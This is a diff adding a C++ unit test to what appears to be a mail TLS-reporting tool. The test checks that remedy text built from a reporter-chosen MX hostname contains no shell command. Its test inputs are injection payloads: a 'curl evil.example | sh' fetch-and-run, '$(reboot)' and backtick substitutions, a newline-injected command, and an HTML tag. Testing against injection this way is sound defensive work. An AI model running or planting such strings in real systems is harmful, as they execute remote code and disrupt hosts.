@@ -254,6 +254,19 @@ TEST(Remedies, AreConcrete) {
                     HasSubstr("each of your MX hosts")));
 }
 
+// The command is there to be pasted into a shell; a reporter chooses the MX name.
+TEST(Remedies, HoldNoCommandMadeOfAStrangersWords) {
+  for (const std::string mx :
+       {"mx2.firm.example; curl evil.example | sh", "$(reboot).firm.example",
+        "mx2.firm.example\nreboot", "`reboot`", "-engine", "<img src=x>"}) {
+    SCOPED_TRACE(mx);
+    History history = History::Clean();
+    history.Fail(kGoogle, -3, ResultType::kCertificateExpired, 4, mx);
+    EXPECT_THAT(Find(Decide(history, ReportsOnly(), kNow), "no_refused_sessions")->remedy,
+                AllOf(HasSubstr("Renew the certificate"), Not(HasSubstr("openssl"))));
+  }
+}
+
 TEST(References, NameTheReportsNewestFirst) {
   History history = History::Clean();
   history.Fail(kGoogle, -9, ResultType::kCertificateExpired);
